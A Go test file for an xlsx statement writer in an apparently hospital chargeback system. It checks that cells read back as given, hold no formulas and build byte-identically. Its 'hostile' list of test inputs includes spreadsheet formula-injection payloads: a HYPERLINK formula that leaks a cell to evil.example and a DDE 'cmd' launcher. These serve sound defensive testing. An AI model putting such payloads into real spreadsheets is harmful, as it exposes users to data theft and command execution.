package xlsx

import (
	"archive/zip"
	"bytes"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"

	"chargeback/internal/workbook"
)

// hostile are descriptions a department or finance could type that a
// spreadsheet would run, mangle or cut short.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1+1)*cmd",
	"\tleading tab",
	`"quoted" and 'single' and a, comma`,
	"line one\nline two",
	"emoji 🏥💊 and 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 outside the BMP",
	"_x0041_ looks like an escaped A",
	"  spaces kept  ",
	strings.Repeat("a very long description, ", 19) + "end",
}

// realisticMonth is a closed month of three departments: charges,
// recurring lines, an SLA credit and adjustments with hostile text, as the
// statements function sends it (the hostile text unguarded here: the
// writer must keep it as given, and as text).
func realisticMonth(t *testing.T) workbook.Month {
	t.Helper()
	d := func(s string) *decimal.Decimal { v := decimal.RequireFromString(s); return &v }
	days := func(n int) *int { return &n }
	// Request and line ids start with a ULID, as request.NewID makes them.
	const ulid = "01KB4Z6K4M2T9V5X7B3C1D0E"
	charge := func(req, svc, name, unit, qty, price, amount string) workbook.Line {
		return workbook.Line{LineID: ulid + req + "-charge", Kind: "charge", RequestID: ulid + req, ServiceID: svc, ServiceName: name,
			Description: name + ": " + qty + " " + unit, Quantity: d(qty), Unit: unit, UnitPrice: d(price), Amount: *d(amount)}
	}
	recurring := func(req, svc, name, unit, qty, price string, n int, amount string) workbook.Line {
		l := charge(req, svc, name, unit, qty, price, amount)
		l.LineID, l.Kind, l.Days = ulid+req+"-recurring-2026-03", "recurring", days(n)
		return l
	}
	adjust := func(id, desc, amount string) workbook.Line {
		return workbook.Line{LineID: ulid + id + "-adjustment", Kind: "adjustment", Description: desc, Amount: *d(amount)}
	}
	radiology := []workbook.Line{
		charge("R1", "workstation-setup", "Clinical workstation setup", "device", "3", "450.00", "1350.00"),
		recurring("R2", "pacs-seat", "PACS viewer seat", "user", "12", "85.00", 31, "1020.00"),
		recurring("R3", "ehr-account", "EHR account", "user", "2.5", "42.10", 17, "57.72"),
		{LineID: ulid + "R1-sla-credit", Kind: "sla_credit", RequestID: ulid + "R1", ServiceID: "workstation-setup", ServiceName: "Clinical workstation setup",
			Description: "SLA credit: fulfilled after 80 h, target 72 h", Amount: *d("-135.00")},
		charge("R4", "analyst-hours", "Analyst hours", "hour", "7.25", "110.00", "797.50"),
	}
	for i, h := range hostile {
		amount := "-0.01"
		if i%2 == 0 {
			amount = "1234567.89"
		}
		radiology = append(radiology, adjust(string(rune('A'+i)), h, amount))
	}
	m := workbook.Month{Month: "2026-03", Status: "closed", ClosedAt: "2026-04-03T09:15:00Z", Currency: "USD",
		At: time.Date(2026, 4, 3, 9, 15, 0, 0, time.UTC), Total: decimal.Zero}
	for _, s := range []struct {
		id, name, cc string
		lines        []workbook.Line
	}{
		{"radiology", "Radiology & Imaging", "CC-4100", radiology},
		{"pharmacy", "=Pharmacy", "CC-4200", []workbook.Line{
			charge("R5", "label-printer", "Label printer", "device", "1", "0.10", "0.10"),
			adjust("Z", "Correction for 2026-02, line R9-charge", "-0.30"),
		}},
		{"emergency", "Emergency Department", "CC-4300", []workbook.Line{recurring("R6", "pager", "Pager", "device", "40", "9.99", 31, "399.60")}},
	} {
		total := decimal.Zero
		for i := range s.lines {
			s.lines[i].Month, s.lines[i].Department, s.lines[i].CostCenter = "2026-03", s.id, s.cc
			total = total.Add(s.lines[i].Amount)
		}
		m.Statements = append(m.Statements, workbook.Statement{Department: s.id, DepartmentName: s.name, CostCenter: s.cc,
			Total: total, Status: "closed", Checksum: "sha256:" + strings.Repeat(s.id[:1], 64), Lines: s.lines})
		m.Total = m.Total.Add(total)
	}
	return m
}

// lineCells are a line's cells as its sheet should show them: text as
// given, numbers in their decimal text, "" where empty.
func lineCells(l workbook.Line) []string {
	opt := func(d *decimal.Decimal) string {
		if d == nil {
			return ""
		}
		return d.String()
	}
	days := ""
	if l.Days != nil {
		days = itoa(*l.Days)
	}
	return []string{l.Month, l.Department, l.CostCenter, l.LineID, l.Kind, l.RequestID, l.ServiceID, l.ServiceName,
		l.Description, opt(l.Quantity), l.Unit, opt(l.UnitPrice), days, l.Amount.String()}
}

func TestBuildReadsBackAsGiven(t *testing.T) {
	m := realisticMonth(t)
	b, err := Build(m)
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	wantSheets := []string{"Summary", "radiology", "pharmacy", "emergency"}
	if diff := cmp.Diff(wantSheets, f.GetSheetList()); diff != "" {
		t.Fatalf("sheets (-want +got):\n%s", diff)
	}
	t.Run("department sheets hold every line", func(t *testing.T) {
		for _, st := range m.Statements {
			rows := [][]string{StatementHeader}
			for _, l := range st.Lines {
				rows = append(rows, lineCells(l))
			}
			if got := sheetRows(t, f, st.Department); len(got) != len(rows) {
				t.Fatalf("%s: got %d rows, want %d", st.Department, len(got), len(rows))
			}
			for r, want := range rows {
				for c, w := range want {
					checkCell(t, f, st.Department, c+1, r+1, w, r > 0 && numericColumn(StatementHeader[c]))
				}
			}
		}
	})
	t.Run("summary lists every statement and the month", func(t *testing.T) {
		want := [][]string{SummaryHeader}
		lines := 0
		for _, st := range m.Statements {
			want = append(want, []string{st.Department, st.DepartmentName, st.CostCenter, st.Total.String(), itoa(len(st.Lines)), "closed", st.Checksum})
			lines += len(st.Lines)
		}
		want = append(want, nil, []string{"total", "", "", m.Total.String(), itoa(lines), "closed"},
			nil, []string{"month", "2026-03"}, []string{"status", "closed"}, []string{"closed_at", "2026-04-03T09:15:00Z"}, []string{"currency", "USD"})
		for r, row := range want {
			for c, w := range row {
				checkCell(t, f, summarySheet, c+1, r+1, w, r > 0 && (c == 3 || c == 4) && w != "")
			}
		}
		if got := len(sheetRows(t, f, summarySheet)); got != len(want) {
			t.Errorf("summary: got %d rows, want %d", got, len(want))
		}
	})
	t.Run("no cell is a formula", func(t *testing.T) {
		zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
		if err != nil {
			t.Fatal(err)
		}
		for _, zf := range zr.File {
			if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
				continue
			}
			rc, _ := zf.Open()
			raw, _ := io.ReadAll(rc)
			rc.Close()
			if bytes.Contains(raw, []byte("<f>")) || bytes.Contains(raw, []byte("<f ")) {
				t.Errorf("%s holds a formula", zf.Name)
			}
		}
	})
}

// numericColumn reports whether a CSV column is written as a number.
func numericColumn(name string) bool {
	return name == "quantity" || name == "unit_price" || name == "days" || name == "amount"
}

// checkCell compares a cell with the CSV's text for it: text exactly, and
// a number by value (the stored value read back as a decimal), with its
// number format, two decimals for money and quantities.
func checkCell(t *testing.T, f *excelize.File, sheet string, col, row int, want string, number bool) {
	t.Helper()
	ref := cellName(col, row)
	typ, err := f.GetCellType(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	raw, err := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
		t.Errorf("%s!%s is the formula %q", sheet, ref, formula)
	}
	if !number || want == "" {
		if raw != want || (want != "" && typ != excelize.CellTypeSharedString) {
			t.Errorf("%s!%s: got %q (type %v), want the text %q", sheet, ref, raw, typ, want)
		}
		return
	}
	got, err := decimal.NewFromString(raw)
	if err != nil || !got.Equal(decimal.RequireFromString(want)) || typ != excelize.CellTypeUnset {
		t.Errorf("%s!%s: got %q (type %v), want the number %s", sheet, ref, raw, typ, want)
	}
	shown, _ := f.GetCellValue(sheet, ref)
	if d := decimal.RequireFromString(want); !strings.Contains(want, ".") && !d.IsInteger() || strings.Contains(want, ".") {
		if wantShown := commas(d.StringFixed(2)); shown != wantShown {
			t.Errorf("%s!%s shows %q, want %q", sheet, ref, shown, wantShown)
		}
	}
}

// commas groups thousands as the money format does.
func commas(s string) string {
	neg := strings.HasPrefix(s, "-")
	s = strings.TrimPrefix(s, "-")
	whole, frac, _ := strings.Cut(s, ".")
	var b strings.Builder
	for i, r := range whole {
		if i > 0 && (len(whole)-i)%3 == 0 {
			b.WriteByte(',')
		}
		b.WriteRune(r)
	}
	out := b.String() + "." + frac
	if neg {
		out = "-" + out
	}
	return out
}

func itoa(n int) string { return decimal.NewFromInt(int64(n)).String() }

// sheetRows reads a sheet's rows as shown.
func sheetRows(t *testing.T, f *excelize.File, sheet string) [][]string {
	t.Helper()
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestBuildIsByteStable(t *testing.T) {
	first, err := Build(realisticMonth(t))
	if err != nil {
		t.Fatal(err)
	}
	for i := range 5 {
		again, err := Build(realisticMonth(t))
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(first, again) {
			t.Fatalf("build %d differs from the first (%d and %d bytes)", i+2, len(first), len(again))
		}
	}
	f, err := excelize.OpenReader(bytes.NewReader(first))
	if err != nil {
		t.Fatal(err)
	}
	props, err := f.GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	if props.Created != "2026-04-03T09:15:00Z" || props.Modified != "2026-04-03T09:15:00Z" {
		t.Errorf("created %s, modified %s; want both the close, 2026-04-03T09:15:00Z", props.Created, props.Modified)
	}
	if dir := os.Getenv("CHARGEBACK_WORKBOOK_OUT"); dir != "" {
		if err := os.WriteFile(filepath.Join(dir, "statements-2026-03.xlsx"), first, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}
